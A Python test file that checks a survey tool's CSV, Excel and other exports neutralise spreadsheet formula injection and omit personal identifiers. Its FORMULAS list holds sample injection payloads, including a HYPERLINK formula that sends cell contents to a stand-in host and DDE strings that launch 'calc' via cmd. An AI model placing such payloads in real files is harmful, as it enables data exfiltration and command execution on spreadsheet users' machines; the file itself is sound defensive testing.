"""Exports end to end (``python -m analysis export`` in-process, every format): text that a
spreadsheet would run as a formula is neutralised in CSV and Excel, and no personal identifier
(contact details, raw response ids, invitation tokens or their hashes) is in any file."""

from __future__ import annotations

import contextlib
import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest

from analysis import cli
from responses.record import hash_token, new_response_id
from responses.store import ParquetResponseStore
from responses.submission import Paradata, submit_answers
from tests.security.xss import PROBE, PROBE_YAML

#: Texts a spreadsheet would run as a formula (OWASP "CSV injection"), with the leading
#: spaces, tabs, carriage returns and full-width signs some programs strip or accept.
FORMULAS = (
    '=HYPERLINK("http://xss.invalid/x?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "\u3000+1",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PHONE = "+86 139 0000 2718"
EMAIL = "li.hua.0718@example.org"


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    base = tmp_path_factory.mktemp("exports")
    root = base / "data"
    (root / "questionnaires").mkdir(parents=True)
    (root / "questionnaires" / "xss_probe.yaml").write_text(PROBE_YAML, encoding="utf-8")
    store = ParquetResponseStore(root)
    ids = []
    tokens = store.state.generate_tokens("xss_probe", 3, actor="test")
    for i in range(40):
        rid = new_response_id()
        ids.append(rid)
        answers = {
            "province": ("bj", "gd", "sc", "js")[i % 4],
            "q_interest": ("rise", "fall")[i % 2],
            "nickname": FORMULAS[i % len(FORMULAS)].strip() or "x",
            "comment": FORMULAS[(i + 3) % len(FORMULAS)] + " 说明",
            "email": EMAIL if i % 2 else PHONE,
        }
        submit_answers(
            store, PROBE, answers, response_id=rid, language="zh", started_at=None,
            consent_version="p1", paradata=Paradata(page_seconds={"about": 20.0 + i}),
        )  # fmt: skip
    store.close()
    files: dict[str, Path] = {}
    for fmt, suffix in (("csv", "csv"), ("xlsx", "xlsx"), ("parquet", "parquet"),
                        ("dta", "dta"), ("sav", "sav"), ("codebook", "html")):  # fmt: skip
        out = base / f"export.{suffix}"
        code, err = run(
            "export", "--format", fmt, "--out", str(out), "--questionnaire", "xss_probe",
            "--store", str(root), "--include-text", "--actor", "researcher",
        )  # fmt: skip
        assert code == 0, err
        files[fmt] = out
    for fmt in ("csv", "xlsx"):
        out = base / f"tables.{fmt}"
        code, err = run(
            "export-tables", "--format", fmt, "--out", str(out), "--questionnaire", "xss_probe",
            "--store", str(root), "--actor", "researcher",
        )  # fmt: skip
        assert code == 0, err
        files[f"tables-{fmt}"] = out
    return {"files": files, "ids": ids, "tokens": tokens}


def run(*argv: str) -> tuple[int, str]:
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        try:
            code = cli.main(list(argv))
        except SystemExit as exc:
            code = int(exc.code or 0)
    return code, err.getvalue()


def _formula_like(text: str) -> bool:
    return text.lstrip(" \u00a0\u3000\n").startswith(TRIGGERS) or text.startswith(("\t", "\r"))


def test_csv_cells_never_start_a_formula(exported):
    for name in ("csv", "tables-csv"):
        text = exported["files"][name].read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if _formula_like(c) and not _is_number(c)], name
    data = list(csv.DictReader(io.StringIO(exported["files"]["csv"].read_text("utf-8-sig"))))
    assert any(r["comment"].startswith("'=HYPERLINK") for r in data)  # kept, neutralised


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_excel_cells_are_values_never_formulas(exported):
    for name in ("xlsx", "tables-xlsx"):
        book = openpyxl.load_workbook(exported["files"][name])
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        assert not _formula_like(cell.value), (name, cell.coordinate)
        with zipfile.ZipFile(exported["files"][name]) as z:
            sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)


def test_no_export_holds_contact_details_response_ids_or_tokens(exported):
    secrets = [PHONE, EMAIL, "139 0000 2718", *exported["ids"][:40:7]]
    secrets += [*exported["tokens"], *(hash_token(t) for t in exported["tokens"])]
    for name, path in exported["files"].items():
        blob = path.read_bytes()
        texts = [blob]
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                texts = [z.read(n) for n in z.namelist()]
        if path.suffix == ".parquet":
            table = pq.read_table(path)
            assert not {"email", "phone", "response_id", "token_hash"} & set(table.column_names)
            texts.append(str(table.to_pylist()).encode())
        for secret in secrets:
            for text in texts:
                assert secret.encode() not in text, (name, secret)
                assert secret.encode("utf-16-le") not in text, (name, secret)
